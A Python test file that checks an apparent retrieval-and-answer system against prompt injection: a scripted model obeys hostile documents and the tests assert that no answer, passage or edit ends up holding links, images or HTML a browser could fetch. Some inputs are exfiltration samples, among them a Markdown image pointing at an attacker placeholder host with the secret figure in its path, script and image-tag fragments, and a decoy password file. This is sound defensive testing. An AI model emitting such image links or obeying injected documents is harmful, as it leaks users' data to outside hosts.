"""What a document says is data: it calls no tool, and brings nothing remote into an answer.

The scripted model obeys every document. What a browser would make of its answers is told by the
Markdown parser that the terminal uses, with raw HTML allowed, which is more than our pages do.
"""

import asyncio
import re
from collections.abc import Iterable, Sequence
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tailrace.events.types import EventType
from tailrace.nodes.answer_text import AnswerText
from tailrace.nodes.edit_text import EditText
from tailrace.nodes.no_model import passages_themselves
from tailrace.nodes.targets import Targets
from tailrace.settings import Settings
from tailrace.state.state import ContextItem, Query
from tailrace.testing.judging import is_judging, judged_by, judgement
from tailrace.testing.model_script import Reply
from tailrace.testing.workbench import open_workbench

from .injections import EVIL, INJECTIONS

PLAN = "The budget of the lighthouse is 4,200 crowns."
QUESTION = Query(text="What is the budget of the lighthouse?")
STRONG = Settings(model_class="strong")
_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table"])
_ADDRESS = re.compile(r"(?:(?:https?:)|['\"=(])//", re.IGNORECASE)
_BARE = re.compile(r"(?<![a-z])(?:https?://|www\.)\S", re.IGNORECASE)


def tokens(parts: Iterable[Token]) -> Iterable[Token]:
    for part in parts:
        yield part
        yield from tokens(part.children or [])


def remote(answer: str) -> list[str]:
    """Whatever in `answer` a browser could fetch, follow or run."""
    found: list[str] = []
    for token in tokens(_MARKDOWN.parse(answer)):
        if token.type in {"image", "link_open", "html_inline", "html_block"}:
            found.append(f"{token.type} {token.content or dict(token.attrs)}")
        elif token.type == "text" and _BARE.search(token.content):
            found.append(token.content)  # what many a page makes a link of
    return found


def in_pieces(text: str, length: int) -> Sequence[str]:
    return [text[at : at + length] for at in range(0, len(text), length)]


@pytest.mark.parametrize("name", INJECTIONS)
async def test_an_obeying_model_reaches_nothing(name: str, tmp_path: Path) -> None:
    document, answer = INJECTIONS[name]
    script = judged_by(judgement({"budget": [1]}), Reply(chunks=in_pieces(answer, 3)))
    async with asyncio.timeout(20), open_workbench(tmp_path, script, settings=STRONG) as bench:
        await bench.add({"plan.md": f"{PLAN}\n\n{document}\n", "other.md": "password: kelp"})
        run = await bench.run(QUESTION)
        asked = [each.chat for each in bench.server.requests if is_judging(each.chat)]
    assert run.outcome == "answered"
    assert remote(run.fold.text) == []
    types = {event.type for event in run.events}
    assert not types & {EventType.TOOL_CALL, EventType.TOOL_RESULT}
    assert len(asked) == 1
    told = next(text for text in asked[0].contents if PLAN in text)
    fence = told[: told.index(" ")]
    assert set(fence) == {"~"}
    assert told.count(fence) == 2


async def test_passages_shown_as_they_are_reach_nothing_either(tmp_path: Path) -> None:
    async with asyncio.timeout(20), open_workbench(tmp_path) as bench:
        document, answer = INJECTIONS["an order"]
        await bench.add({f"![t](https:{EVIL}) plan.md": f"{PLAN}\n\n{document}\n\n{answer}\n"})
        run = await bench.run(QUESTION)
    assert remote(run.fold.text) == []
    assert PLAN in run.fold.text


@pytest.mark.parametrize("name", INJECTIONS)
def test_no_passage_that_is_shown_reaches_out(name: str) -> None:
    item = ContextItem(
        id="1",
        document_id=1,
        revision=1,
        title=INJECTIONS[name][1],
        text="\n\n".join(INJECTIONS[name]),
        char_start=0,
        char_end=0,
        score=1.0,
    )
    assert remote("".join(piece.text for piece in passages_themselves([item], "budget?"))) == []


@pytest.mark.parametrize("name", INJECTIONS)
@pytest.mark.parametrize("length", [1, 4, 1_000])
def test_an_edit_that_obeys_reaches_nothing_new(name: str, length: int) -> None:
    text = EditText(Targets("A line of my own."))
    out = [each for part in in_pieces(INJECTIONS[name][1], length) for each in text.feed(part)]
    edited = "".join(each for each in [*out, *text.end()] if isinstance(each, str))
    assert [each for each in remote(edited) if _ADDRESS.search(each)] == []


async def test_an_edit_reaches_nothing_that_was_not_there(tmp_path: Path) -> None:
    mine = "See https://mine.example/a."
    edited = f"See https://mine.example/a. ![x](https://{EVIL}/4200)"
    script = judged_by(judgement({"a": [1]}), Reply(text=edited), "document_edit")
    async with asyncio.timeout(20), open_workbench(tmp_path, script) as bench:
        run = await bench.run(Query(text="Edit it", selected_content=mine))
    assert run.fold.text == f"See https://mine.example/a. ![x]({EVIL}/4200)"


PIECES = """
a ` `` ``` ~~~ ![x](//e) ![x](https://e) [x](//e) ![x][r] [r] [r]: <div> </div> <img&src=//e>
<script> <!-- --> < \\ ! [ ](//e) ] ( https://e www.e http s://e <https://e> |---| | - 1. > * **
[1] 【1】 <pre> <x&y=' '> &lt; \u200b
"""
PARTS = [*(piece.replace("&s", " s").replace("&y", " y") for piece in PIECES.split())]
BREAKS = [
    " ",
    "\n",
    "\n\n",
    "\n   ",
    "\n    ",
    "\n```\n",
    "|---|---|\n",
    "| a | b |\n",
    "[r]: //e\n",
]


@given(st.lists(st.sampled_from([*PARTS, *BREAKS]), max_size=20), st.integers(1, 9))
def test_no_answer_reaches_out_however_it_is_put_together(parts: list[str], length: int) -> None:
    answer = AnswerText(Targets(), 3)
    out = [each for part in in_pieces("".join(parts), length) for each in answer.feed(part)]
    shown = "".join(each for each in [*out, *answer.end()] if isinstance(each, str))
    assert remote(shown) == []


async def test_a_link_of_the_persons_own_stays(tmp_path: Path) -> None:
    answer = "See [this](https://tide.example/now) and https://tide.example/now."
    script = judged_by(judgement({"a": [1]}), Reply(text=answer))
    async with asyncio.timeout(20), open_workbench(tmp_path, script) as bench:
        await bench.add({"plan.md": PLAN})
        run = await bench.run(
            Query(text="What says https://tide.example/now of the lighthouse's budget?")
        )
    assert run.fold.text == answer


def test_the_check_itself_sees_what_reaches_out() -> None:
    for _, answer in INJECTIONS.values():
        assert remote(answer) or answer.startswith("{") or "\u200b" in answer or "<" in answer
    assert remote("![a](//x)")
    assert remote("see https://x")
